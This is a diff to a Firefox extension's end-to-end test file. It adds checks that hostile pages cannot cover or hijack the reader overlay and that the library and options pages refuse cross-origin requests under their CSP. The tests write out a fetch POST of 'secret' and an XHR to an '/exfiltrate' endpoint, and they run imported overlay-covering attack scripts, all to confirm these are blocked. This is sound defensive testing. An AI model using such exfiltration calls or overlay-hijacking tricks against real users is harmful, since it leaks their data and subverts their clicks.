@@ -7,13 +7,18 @@
  *   the reader: no `__pwned_*` flag set again after the reader opened, nothing in the overlay that
  *   could run, no request to the payloads' beacon URLs;
  * - page script cannot press the reader's controls (.click(), a dispatched change), close it with a
- *   synthetic Escape or a forged takeover event, or take it off the screen after it opened.
+ *   synthetic Escape or a forged takeover event, or take it off the screen after it opened;
+ * - nor cover it with its own popover or modal dialog: the reader stays on top and gets the user's click;
+ * - the library and options pages connect to no other origin (their CSP).
  * (Firefox has no triggerAction: the toolbar click goes through the e2e build's hook.)
  */
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import type { Page } from 'puppeteer-core';
 import { OVERLAY_TAG, isOverlayOpen, launchFirefox, overlayEval, waitForOverlay, type FirefoxSession } from './harness.js';
-import { IDS, clearFlags, flags, liveScriptInOverlay, serveHostileSite, type HostileSite } from './hostile-checks.js';
+import {
+  COVER_ATTACKS, COVER_RGB, IDS, attackScript, clearFlags, coverShown, flags, liveScriptInOverlay, pixelAt,
+  recordClicks, saveButtonCenter, serveHostileSite, type HostileSite,
+} from './hostile-checks.js';
 
 let firefox: FirefoxSession;
 let site: HostileSite;
@@ -129,4 +134,76 @@ describe('hostile pages in Firefox ESR', () => {
     await page.keyboard.press('Escape');
     expect(await waitForOverlay(page, false)).toBe(true);
   });
+
+  it('the page cannot cover the reader with a popover or modal dialog: it stays on top, gets the click', async () => {
+    const page = await open('/news/plain.html');
+    await firefox.clickAction(page);
+    expect(await waitForOverlay(page)).toBe(true);
+    const [x, y] = await saveButtonCenter(page);
+    await page.evaluate(recordClicks);
+    const hit = (): Promise<string | null> =>
+      page.evaluate((px, py) => document.elementFromPoint(px, py)?.localName ?? null, x, y);
+    const seen = (): Promise<string> => pixelAt(page, x, y).then((p) => p.join());
+    expect(await seen()).not.toBe(COVER_RGB.join());
+    let saves = 0;
+    for (const [id, attack] of COVER_ATTACKS) {
+      await overlayEval(page, (root) => root.querySelector<HTMLElement>('.scroller')!.focus());
+      const scrolled = await overlayEval(page, (root) => {
+        const scroller = root.querySelector<HTMLElement>('.scroller')!;
+        scroller.scrollTop = 120;
+        return scroller.scrollTop;
+      });
+      expect(scrolled).toBe(120);
+      // Not see-through for a moment either: the reader's fade-in does not play again.
+      expect(await page.evaluate(attackScript(attack, id, OVERLAY_TAG)), id).toBe(0);
+      // Where the user was reading stays where it was.
+      expect(await overlayEval(page, (root) => root.querySelector('.scroller')!.scrollTop), id).toBe(scrolled);
+      await expect.poll(seen, { timeout: 3000, message: id }).not.toBe(COVER_RGB.join());
+      expect(await hit(), id).toBe(OVERLAY_TAG);
+      expect(await page.evaluate(coverShown, id), id).toBe(true);
+      expect(await page.evaluate(() => document.activeElement?.localName), id).toBe(OVERLAY_TAG);
+      // A real click (BiDi input) lands on the reader's Save button, not on the page's element.
+      await page.mouse.click(x, y);
+      saves += 1;
+      const clicks = await page.evaluate(() => (window as unknown as { __clicks: string[] }).__clicks);
+      expect(clicks, id).toEqual(Array(saves).fill(`${OVERLAY_TAG}/save`));
+      expect(await page.evaluate(() => (window as unknown as { __coverClicks: number }).__coverClicks), id).toBe(0);
+      const status = (): Promise<string> =>
+        overlayEval(page, (root) => root.querySelector('.status')?.textContent ?? '');
+      await expect.poll(status, { timeout: 15_000, message: id }).toMatch(/Saved|Updated|already/i);
+      await overlayEval(page, (root) => { root.querySelector('.status')!.textContent = ''; });
+    }
+  });
+
+  for (const file of ['library.html', 'options.html']) {
+    it(`${file}: a fetch() or XHR to another origin is refused by the CSP; data: images still show`, async () => {
+      const ext = await firefox.browser.newPage();
+      opened.push(ext);
+      // page.goto('moz-extension://…') loads but never resolves (browser-testing.md): poll instead.
+      void ext.goto(firefox.extensionBase + file).catch(() => {});
+      expect(await until(() => ext.evaluate(() => location.protocol === 'moz-extension:'
+        && document.readyState === 'complete'), 10_000)).toBe(true);
+      const before = requests.length;
+      const result = await ext.evaluate(async (o) => {
+        const fetched = await fetch(`${o}/exfiltrate?fetch`, { method: 'POST', body: 'secret' })
+          .then(() => 'sent', (e: Error) => `refused: ${e.name}`);
+        const xhr = await new Promise<string>((resolve) => {
+          const x = new XMLHttpRequest();
+          x.onload = () => resolve('sent');
+          x.onerror = () => resolve('refused');
+          try { x.open('GET', `${o}/exfiltrate?xhr`); x.send(); } catch { resolve('refused'); }
+        });
+        const png = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
+        const data = await new Promise<number>((resolve) => {
+          const img = new Image();
+          img.onload = () => resolve(img.naturalWidth);
+          img.onerror = () => resolve(0);
+          img.src = `data:image/png;base64,${png}`;
+        });
+        return { fetched, xhr, data };
+      }, origin);
+      expect(result).toEqual({ fetched: 'refused: TypeError', xhr: 'refused', data: 1 });
+      expect(requests.slice(before).filter((u) => u.startsWith('/exfiltrate'))).toEqual([]);
+    });
+  }
 });
